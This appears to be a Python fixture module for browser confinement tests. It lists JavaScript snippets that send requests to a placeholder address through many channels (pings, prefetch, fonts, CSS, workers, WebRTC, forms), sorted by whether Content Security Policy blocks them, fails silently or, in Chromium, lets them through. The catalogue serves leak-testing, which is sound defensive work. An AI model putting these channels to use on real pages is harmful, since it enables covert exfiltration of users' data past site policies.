"""The ways in which a page or a worker may send something: what test_leaks.py tries. Each is JavaScript; TO is an address.

Knows browsers. Does not know the site. The commonest ways are in test_confinement.py and test_engines.py, for three
browsers; these are the odd ones, and are tried all at once.
"""

from __future__ import annotations

STOPPED = {
    "ping": ("add('a', { href: '#', ping: TO }).click()", "connect-src"),
    "prefetch": ("add('link', { rel: 'prefetch', href: TO })", "default-src"),
    "preload": ("add('link', { rel: 'preload', as: 'fetch', href: TO })", "connect-src"),
    "modulepreload": ("add('link', { rel: 'modulepreload', href: TO })", "script-src-elem"),
    "icon": ("add('link', { rel: 'icon', href: TO })", "img-src"),
    "speculation": (
        "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [TO] }] }) })",
        "inline script-src-elem",
    ),
    "font": ("new FontFace('x', `url(${TO})`).load()", "font-src"),
    "style-attribute": ("add('p', {}).setAttribute('style', `background: url(${TO})`)", "inline style-src-attr"),
    "style-property": ("add('p', { textContent: 'x' }).style.backgroundImage = `url(${TO})`", "img-src"),
    "style-rule": ("document.styleSheets[0].insertRule(`main { background: url(${TO}) !important }`)", "img-src"),
    "style-import": ("document.styleSheets[0].insertRule(`@import '${TO}'`)", "style-src-elem"),
    "style-adopted": (
        "const made = new CSSStyleSheet(); made.replaceSync(`html { background: url(${TO}) }`); document.adoptedStyleSheets = [made]",
        "img-src",
    ),
    "svg": ("document.body.insertAdjacentHTML('beforeend', `<svg><image href='${TO}'/></svg>`)", "img-src"),
    "poster": ("add('video', { poster: TO })", "img-src"),
    "audio": ("add('audio', { src: TO, preload: 'auto' })", "media-src"),
    "object": ("add('object', { data: TO })", "host object-src"),
    "embed": ("add('embed', { src: TO })", "host object-src"),
    "transport": ("new WebTransport(TO.replace('http:', 'https:'))", "connect-src"),
    "later": ("fetchLater(TO, { activateAfter: 0 })", "connect-src"),
    "compile": ("WebAssembly.compileStreaming(fetch(TO))", "connect-src"),
    "base": ("document.head.append(Object.assign(document.createElement('base'), { href: TO }))", "base-uri"),
    "form": ("add('form', { method: 'get', action: TO }).requestSubmit()", "form-action"),
    "form-in-new-tab": ("add('form', { method: 'post', action: TO, target: '_blank' }).submit()", "form-action"),
    "frame": ("add('iframe', {}).contentWindow.location = TO", "host frame-src"),
}
"""Stopped by the policy, which says so: the directive that the browser must name. Of some it names no address, or the host alone."""

SILENT = {
    "worker": "new Worker(TO)",
    "shared-worker": "new SharedWorker(TO)",
    "service-worker": "navigator.serviceWorker.register(TO)",
    "audio-worklet": "new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(TO)",
    "paint-worklet": "CSS.paintWorklet.addModule(TO)",
    "prerender": "add('link', { rel: 'prerender', href: TO })",
    "manifest": "add('link', { rel: 'manifest', href: TO })",
    "report": "add('meta', { httpEquiv: 'Content-Security-Policy', content: `media-src 'none'; report-uri ${TO}` })",
    "media-session": "navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: TO }] })",
    "notification": "new Notification('x', { icon: TO })",
    "srcdoc": "add('iframe', { srcdoc: `<img src='${TO}'>` })",
    "frame-of-own": "add('iframe', {}).contentWindow.fetch(TO)",
    "script-address": "add('a', { href: `javascript:fetch('${TO}')` }).click()",
    "tab-of-own": "open('').fetch(TO)",
    "tab-from-blob": "open(URL.createObjectURL(new Blob([`<img src='${TO}'>`], { type: 'text/html' })))",
    "clipboard-rich": "navigator.clipboard.write([new ClipboardItem({ 'text/html': new Blob([`<img src='${TO}'>`], { type: 'text/html' }) })])",
}
"""Nothing arrives. Not every browser says why."""

OPEN = {
    "tab": "open(TO)",
    "link": "add('a', { href: TO, target: '_blank' }).click()",
    "telephony": """const one = new RTCPeerConnection({ iceServers: [{ urls: TO.replace('http://', 'stun:').replace(/\\/.*/, '') }] });
        one.createDataChannel('x'); one.createOffer().then((offer) => one.setLocalDescription(offer))""",
    "leaving": "location.href = TO",
}
"""No policy stops these in Chromium. Our own program does none of them; see test_leaks.py."""

FROM_WORKER = {
    "fetch": "await fetch(TO, { method: 'POST', mode: 'no-cors', body: 'x' })",
    "request": "const one = new XMLHttpRequest(); one.open('POST', TO, false); one.send('x')",
    "socket": "await new Promise((open, fail) => Object.assign(new WebSocket(TO.replace('http', 'ws')), { onopen: open, onerror: fail }))",
    "events": "await new Promise((open, fail) => Object.assign(new EventSource(TO), { onopen: open, onerror: fail }))",
    "transport": "await new WebTransport(TO.replace('http:', 'https:')).ready",
    "import": "await import(TO)",
    "font": "await new FontFace('x', `url(${TO})`).load()",
    "worker-in-worker": """const code = `fetch('${TO}', { mode: 'no-cors' }).then(() => postMessage(true), () => postMessage(false))`;
        const one = new Worker(URL.createObjectURL(new Blob([code])));
        if (!(await new Promise((tell, fail) => Object.assign(one, { onmessage: ({ data }) => tell(data), onerror: fail })))) throw new Error()""",
}
"""The same from inside a worker: each must throw."""
NOT_IN_WORKERS = ["RTCPeerConnection", "open", "sendBeacon"]
"""What a worker has no part of: it cannot leave for another page, nor call anybody."""
